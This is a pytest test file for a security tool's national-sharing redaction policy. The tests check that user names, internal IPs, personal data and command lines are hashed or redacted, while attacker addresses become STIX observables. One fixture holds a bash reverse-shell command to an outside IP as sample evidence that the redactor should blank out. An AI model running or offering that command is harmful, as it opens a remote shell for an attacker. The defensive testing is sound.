"""The national sharing policy, one field class at a time (docs/national.md, "What is shared").

Issue 10 finding: user names and IP addresses were hashed in their own fields while the
alert ``message`` and ``canhgac.alert.key`` carried them in clear, and the attacker's
external address was hashed, so the center could not use it.
"""

from __future__ import annotations

import re
import uuid

import orjson
import pytest

from canhgac.config import load_section
from canhgac.errors import ConfigError
from canhgac.schema import ALERT, new_event
from shipper.outputs.national.config import NationalOutputConfig, PolicyConfig, RedactConfig
from shipper.outputs.national.encoder import Encoder
from shipper.outputs.national.observables import STIX_NAMESPACE, observables, sco
from shipper.outputs.national.policy import Policy
from shipper.outputs.national.redact import REDACTED, Redactor

KEY = b"k" * 32


def redactor(**redact) -> Redactor:
    return Redactor(load_section(redact, RedactConfig, "c.yaml"), KEY)


def test_message_and_key_are_rebuilt_from_minimised_fields():
    r = redactor()
    doc = {"user": {"name": "backup2"}, "source": {"ip": "192.168.1.20"},
           "message": "New local user account (host.hostname=app-01, user.name=backup2) "
                      "from 192.168.1.20",
           "canhgac": {"alert": {"key": "host.hostname=app-01, user.name=backup2"}}}
    r.apply(doc)
    name, ip = r.pseudonym("backup2"), r.pseudonym("192.168.1.20")
    assert doc["user"]["name"] == name and doc["source"]["ip"] == ip
    assert doc["canhgac"]["alert"]["key"] == f"host.hostname=app-01, user.name={name}"
    assert doc["message"] == ("New local user account (host.hostname=app-01, "
                              f"user.name={name}) from {ip}")


@pytest.mark.parametrize("ip", ["203.0.113.7", "45.77.10.20", "2001:4860::8888", "8.8.8.8"])
def test_external_addresses_are_shared_in_clear(ip):
    doc = {"source": {"ip": ip}, "related": {"ip": [ip]}, "message": f"from {ip}"}
    redactor().apply(doc)
    assert doc == {"source": {"ip": ip}, "related": {"ip": [ip]}, "message": f"from {ip}"}


@pytest.mark.parametrize("ip", ["10.1.2.3", "172.20.0.9", "192.168.0.1", "100.64.3.3", "127.0.0.1",
                                "169.254.1.1", "fd00::5", "fe80::1", "::ffff:10.1.2.3"])
def test_internal_addresses_are_pseudonymised(ip):
    r = redactor()
    doc = {"destination": {"ip": ip}, "client": {"ip": ip}, "message": f"to {ip} now"}
    r.apply(doc)
    assert doc["destination"]["ip"] == doc["client"]["ip"] == r.pseudonym(ip)
    assert doc["message"] == f"to {r.pseudonym(ip)} now"


def test_the_provinces_own_networks_and_the_hosts_addresses_are_internal():
    r = redactor(internal_networks=["198.51.100.0/24"])
    doc = {"source": {"ip": "198.51.100.9"}, "destination": {"ip": "203.0.113.80"},
           "host": {"ip": ["203.0.113.80", "10.0.0.4"]}}
    r.apply(doc)
    assert doc["source"]["ip"].startswith("h:")  # configured as the province's
    assert doc["destination"]["ip"] == r.pseudonym("203.0.113.80")  # the host's own address
    assert doc["host"]["ip"] == [r.pseudonym("203.0.113.80"), r.pseudonym("10.0.0.4")]


def test_personal_data_dropped_or_redacted_everywhere_it_appears():
    r = redactor()
    doc = {"user": {"full_name": "Nguyễn Văn An", "email": "an@so.gov.vn"},
           "process": {"command_line": "mysql -u root -pS3cret!", "working_directory": "/home/an"},
           "url": {"original": "https://x.vn/?token=abc", "domain": "x.vn"},
           "event": {"original": "Dec  2 sshd[1]: Failed password for an from 10.0.0.2"},
           "message": "Nguyễn Văn An ran mysql -u root -pS3cret! as an@so.gov.vn"}
    r.apply(doc)
    text = orjson.dumps(doc).decode()
    for secret in ("Nguy", "an@so", "S3cret", "token=abc", "/home/an", "Failed password"):
        assert secret not in text, secret
    assert "full_name" not in doc["user"]
    assert doc["process"]["command_line"] == REDACTED and doc["url"]["domain"] == "x.vn"
    assert doc["message"] == f"{REDACTED} ran {REDACTED} as {r.pseudonym('an@so.gov.vn')}"


def test_text_replacement_is_by_whole_token_and_skips_tiny_values():
    r = redactor()
    doc = {"source": {"ip": "10.0.0.5"}, "user": {"id": "0"},
           "message": "10.0.0.5 then 10.0.0.55 and 110.0.0.5; uid 0 of 10 events"}
    r.apply(doc)
    assert doc["message"] == (f"{r.pseudonym('10.0.0.5')} then 10.0.0.55 and 110.0.0.5; "
                              "uid 0 of 10 events")


def test_update_evidence_is_minimised_by_the_fields_it_names():
    r = redactor()
    doc = {"canhgac": {"alert": {"new_evidence": {"user.name": "root", "process.command_line":
                                                  "bash -i >& /dev/tcp/45.77.10.20/4444 0>&1",
                                                  "source.ip": "45.77.10.20"}}},
           "message": "Reverse shell: new evidence user.name=root"}
    r.apply(doc)
    new = doc["canhgac"]["alert"]["new_evidence"]
    assert new == {"user.name": r.pseudonym("root"), "process.command_line": REDACTED,
                   "source.ip": "45.77.10.20"}
    assert doc["message"] == f"Reverse shell: new evidence user.name={r.pseudonym('root')}"


def test_observables_are_stix_21_with_deterministic_ids():
    doc = {"source": {"ip": "45.77.10.20", "domain": "Evil.Example."},
           "destination": {"ip": "h:" + "0" * 32},
           "related": {"ip": ["45.77.10.20", "2001:db8::7"]},
           "dns": {"question": {"name": "c2.example"}},
           "file": {"hash": {"sha256": "AB" * 32, "md5": "cd" * 16}}}
    found = observables(doc)
    assert [(o["type"], o.get("value") or o.get("hashes")) for o in found] == [
        ("ipv4-addr", "45.77.10.20"), ("ipv6-addr", "2001:db8::7"),
        ("domain-name", "evil.example"), ("domain-name", "c2.example"),
        ("file", {"SHA-256": "ab" * 32}), ("file", {"MD5": "cd" * 16})]
    for o in found:
        kind, _, ident = o["id"].partition("--")
        assert kind == o["type"] and o["spec_version"] == "2.1"
        assert uuid.UUID(ident).version == 5
    # the same value reported twice (or by another province) is the same object
    expected = uuid.uuid5(STIX_NAMESPACE, '{"value":"45.77.10.20"}')
    assert found[0]["id"] == f"ipv4-addr--{expected}" == sco("ipv4-addr",
                                                             {"value": "45.77.10.20"})["id"]


def _shared(cfg: NationalOutputConfig, doc: dict) -> dict:
    enc = Encoder(Policy(cfg.policy), Redactor(cfg.redact, KEY), 100, 1 << 20, 1)
    (req,) = enc.encode("b", [orjson.dumps(doc)]).requests
    return orjson.loads(req.body)


def test_shared_alerts_carry_observables_unless_the_level_says_no():
    ev = new_event(ALERT, kind="alert", source={"ip": "45.77.10.20"}, user={"name": "an"})
    ev["event"]["severity"] = 73
    ev["canhgac"] = {"system": {"id": "dvc", "level": 3}}
    shared = _shared(NationalOutputConfig(), ev)
    assert shared["canhgac"]["observables"] == [sco("ipv4-addr", {"value": "45.77.10.20"})]
    assert shared["user"]["name"].startswith("h:")
    off = load_section({"policy": {"levels": {3: {"observables": False}}}},
                       NationalOutputConfig, "c.yaml")
    assert "observables" not in _shared(off, ev)["canhgac"]


def test_bad_internal_network_is_one_clear_error():
    with pytest.raises(ConfigError) as err:
        load_section({"redact": {"internal_networks": ["10.0.0.0/8", "10.0.0/33"]}},
                     NationalOutputConfig, "collector.yaml", "outputs.national")
    assert re.search(r"collector\.yaml: outputs\.national\.redact\.internal_networks\[1\]: "
                     r"'10\.0\.0/33' is not an IP network", str(err.value))


def test_policy_defaults_cover_every_class():
    modes = RedactConfig().all_fields()
    assert modes["source.ip"] == modes["destination.ip"] == "observable"
    assert modes["user.name"] == modes["host.ip"] == "hash"
    assert modes["message"] == modes["canhgac.alert.key"] == "text"
    assert PolicyConfig().default.observables is True
